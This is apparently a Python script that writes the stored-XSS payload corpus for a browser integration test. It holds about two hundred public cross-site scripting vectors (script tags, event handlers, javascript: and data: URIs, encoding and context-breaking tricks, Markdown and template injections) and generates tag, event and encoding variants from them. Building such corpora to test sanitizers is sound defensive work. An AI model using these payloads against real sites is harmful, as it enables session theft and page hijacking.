#!/usr/bin/env python3
"""Writes src/test/resources/xss/payloads.txt: the stored-XSS corpus of XssBrowserIT, one payload a line.

The base vectors are well-known public ones (see src/test/resources/xss/README.md for the sources and their
licences), with every external address replaced by a name that cannot resolve (xss.invalid), and every script
calling alert(1) or the like, which the browser test records. Variants are generated from them: the PortSwigger
cheat sheet's pattern of every tag with every event handler, letter casing, HTML entity and URL encodings of the
script, and context breakers in front (attribute, comment, title, textarea, CDATA). Deterministic: same output
on every run.
"""
import html
import pathlib

BASE = r'''<script>alert(1)</script>
<SCRIPT SRC=//xss.invalid/xss.js></SCRIPT>
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=javascript:alert('XSS')>
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=javascript:alert(&quot;XSS&quot;)>
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
<a onmouseover="alert(document.cookie)">xxs link</a>
<a onmouseover=alert(document.cookie)>xxs link</a>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG SRC= onmouseover="alert('xxs')">
<IMG onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>
<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>
<IMG SRC="jav	ascript:alert('XSS');">
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC="jav&#x0A;ascript:alert('XSS');">
<IMG SRC="jav&#x0D;ascript:alert('XSS');">
<IMG SRC=" &#14;  javascript:alert('XSS');">
<SCRIPT/XSS SRC="//xss.invalid/xss.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>
<SCRIPT/SRC="//xss.invalid/xss.js"></SCRIPT>
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<SCRIPT SRC=//xss.invalid/xss.js?< B >
<SCRIPT SRC=//xss.invalid/j
<IMG SRC="`('XSS')"
</TITLE><SCRIPT>alert("XSS");</SCRIPT>
<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<BODY BACKGROUND="javascript:alert('XSS')">
<IMG DYNSRC="javascript:alert('XSS')">
<IMG LOWSRC="javascript:alert('XSS')">
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<svg/onload=alert('XSS')>
<BODY ONLOAD=alert('XSS')>
<BGSOUND SRC="javascript:alert('XSS');">
<BR SIZE="&{alert('XSS')}">
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<LINK REL="stylesheet" HREF="//xss.invalid/xss.css">
<STYLE>@import'//xss.invalid/xss.css';</STYLE>
<META HTTP-EQUIV="Link" Content="<//xss.invalid/xss.css>; REL=stylesheet">
<STYLE>BODY{-moz-binding:url("//xss.invalid/xssmoz.xml#xss")}</STYLE>
<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>
<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
<STYLE TYPE="text/javascript">alert('XSS');</STYLE>
<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>
<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>
<XSS STYLE="behavior: url(xss.htc);">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=//;URL=javascript:alert('XSS');">
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<TABLE BACKGROUND="javascript:alert('XSS')">
<TABLE><TD BACKGROUND="javascript:alert('XSS')">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">
<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">
<DIV STYLE="width: expression(alert('XSS'));">
<BASE HREF="javascript:alert('XSS');//">
<OBJECT TYPE="text/x-scriptlet" DATA="//xss.invalid/scriptlet.html"></OBJECT>
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
<SCRIPT a=">" SRC="//xss.invalid/xss.js"></SCRIPT>
<SCRIPT =">" SRC="//xss.invalid/xss.js"></SCRIPT>
<SCRIPT a=">" '' SRC="//xss.invalid/xss.js"></SCRIPT>
<SCRIPT "a='>'" SRC="//xss.invalid/xss.js"></SCRIPT>
<SCRIPT a=`>` SRC="//xss.invalid/xss.js"></SCRIPT>
<SCRIPT a=">'>" SRC="//xss.invalid/xss.js"></SCRIPT>
<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="//xss.invalid/xss.js"></SCRIPT>
<A HREF="javascript:document.location='//xss.invalid/'">XSS</A>
<IMG SRC="javascript:alert('XSS')"
<iframe src=//xss.invalid/scriptlet.html <
<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>
<A HREF="h&#x0A;tt	p://6	6.000146.0x7.147/">XSS</A>
<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>
<input onfocus=alert(1) autofocus>
<input onblur=alert(1) autofocus><input autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<video><source onerror="alert(1)">
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<body oninput=alert(1)><input autofocus>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<svg><script>alert(1)</script>
<svg><script xlink:href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href onbegin=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>
<math><a xlink:href="javascript:alert(1)">click</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<isindex action=javascript:alert(1) type=image>
<form action="javascript:alert(1)"><input type=submit>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href="  javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#x6a;avascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img src=1 onerror=alert`1`>
<img src=1 onerror=window['al'+'ert'](1)>
<img src=1 onerror=top[/al/.source+/ert/.source](1)>
<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>
<img src=1 onerror=Function('alert(1)')()>
<img src=1 onerror=setTimeout('alert(1)')>
<img src=1 onerror=import('data:text/javascript,alert(1)')>
<img src=1 onerror=location='javascript:alert(1)'>
<img src=1 onerror=print()>
<img src=1 onerror=confirm(1)>
<img src=1 onerror=prompt(1)>
<svg onload=alert&#40;1&#41;>
<svg onload=&#97;&#108;&#101;&#114;&#116;(1)>
<svg onload=\u0061lert(1)>
<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>
<style>*{transition:color 1s}</style><div ontransitionend=alert(1) style=color:red></div>
<xss onfocus=alert(1) autofocus tabindex=1>
<xss id=x tabindex=1 onfocusin=alert(1)></xss>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>click</a>
<body onresize=alert(1)>
<body onscroll=alert(1)><div style=height:10000px></div>
<body onmessage=alert(1)>
<frameset onload=alert(1)>
<image src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img	src=x	onerror=alert(1)>
<img%0Asrc=x%0Aonerror=alert(1)>
<img src=x onerror=alert(1)//
<img src=x onerror=alert(1) x=
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
</textarea><img src=x onerror=alert(1)>
</title><img src=x onerror=alert(1)>
</style><img src=x onerror=alert(1)>
</script><img src=x onerror=alert(1)>
--><img src=x onerror=alert(1)>
]]><img src=x onerror=alert(1)>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<]]>img src=x onerror=alert(1)>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<div style="x:expression(alert(1))">
<div style="background:url('javascript:alert(1)')">
<a href="#" style="behavior:url(#default#AnchorClick)">x</a>
<template><img src=x onerror=alert(1)></template>
<portal src=javascript:alert(1)>
<meta http-equiv="refresh" content="0;javascript:alert(1)"/>
<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
${alert(1)}
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
#{alert(1)}
<%= alert(1) %>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
![x](javascript:alert(1))
![x](x" onerror="alert(1))
[x](x" onmouseover="alert(1))
[x](<javascript:alert(1)>)
<javascript:alert(1)>
[x]: javascript:alert(1)
[x][y]

[y]: javascript:alert(1)
`<img src=x onerror=alert(1)>`
```<script>alert(1)</script>```
**<img src=x onerror=alert(1)>**
> <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
http://example.org/"><img src=x onerror=alert(1)>
https://example.org/?q=<script>alert(1)</script>
https://example.org/#"onmouseover="alert(1)
javascript:alert(1)
JAVASCRIPT:alert(1)
data:text/html,<script>alert(1)</script>
 javascript:alert(1)
javascript://example.org/%0aalert(1)
vbscript:alert(1)
x@example.org"><img src=x onerror=alert(1)>
"onmouseover="alert(1)"@example.org
<script>alert(1)</script>@example.org'''.split('\n')

TAGS = ['a', 'abbr', 'address', 'animate', 'animatetransform', 'area', 'article', 'aside', 'audio', 'b', 'bdi',
        'bdo', 'blockquote', 'body', 'br', 'button', 'canvas', 'caption', 'cite', 'code', 'col', 'colgroup',
        'data', 'datalist', 'dd', 'del', 'details', 'dfn', 'dialog', 'div', 'dl', 'dt', 'em', 'embed',
        'fieldset', 'figcaption', 'figure', 'footer', 'form', 'frame', 'frameset', 'h1', 'head', 'header',
        'hr', 'html', 'i', 'iframe', 'image', 'img', 'input', 'ins', 'kbd', 'label', 'legend', 'li', 'link',
        'main', 'map', 'mark', 'marquee', 'menu', 'meter', 'nav', 'object', 'ol', 'optgroup', 'option',
        'output', 'p', 'picture', 'pre', 'progress', 'q', 's', 'samp', 'section', 'select', 'set', 'slot',
        'small', 'source', 'span', 'strong', 'sub', 'summary', 'sup', 'svg', 'table', 'tbody', 'td',
        'textarea', 'tfoot', 'th', 'thead', 'time', 'tr', 'track', 'u', 'ul', 'var', 'video', 'xss']
# events that fire without a reader's hand (with autofocus, a broken src, an animation), and a few that need one
EVENTS = ['onerror src=x', 'onload', 'onfocus autofocus tabindex=1', 'onfocusin autofocus tabindex=1',
          'onbegin attributeName=x dur=1s', 'ontoggle open', 'onanimationstart style=animation-name:spin',
          'onmouseover', 'onclick', 'onpointerenter']
SCRIPTS = ['alert(1)', 'alert(document.domain)', 'confirm`1`', 'prompt(1)']


def variants():
    seen = set()
    out = []

    def add(p):
        if p and p not in seen and '\n' not in p:
            seen.add(p)
            out.append(p)

    for p in BASE:
        add(p)
    for tag in TAGS:
        for i, event in enumerate(EVENTS):
            script = SCRIPTS[(TAGS.index(tag) + i) % len(SCRIPTS)]
            name, _, rest = event.partition(' ')
            add(f'<{tag} {rest + " " if rest else ""}{name}={script}>x</{tag}>')
    for p in BASE:
        if '<' in p:
            add(p.swapcase().replace('ALERT', 'alert').replace('CONFIRM', 'confirm').replace('PROMPT', 'prompt'))
            add(p.replace('alert(1)', 'alert&#40;1&#41;'))
            add(html.escape(p))
            add('"><' + p.lstrip('<'))
            add("'>" + p)
            add('</textarea>' + p)
            add('<!--' + p + '-->')
    return out


if __name__ == '__main__':
    target = pathlib.Path(__file__).resolve().parent.parent / 'src/test/resources/xss/payloads.txt'
    payloads = variants()
    target.write_text('\n'.join(payloads) + '\n', encoding='utf-8')
    print(f'{len(payloads)} payloads written to {target}')
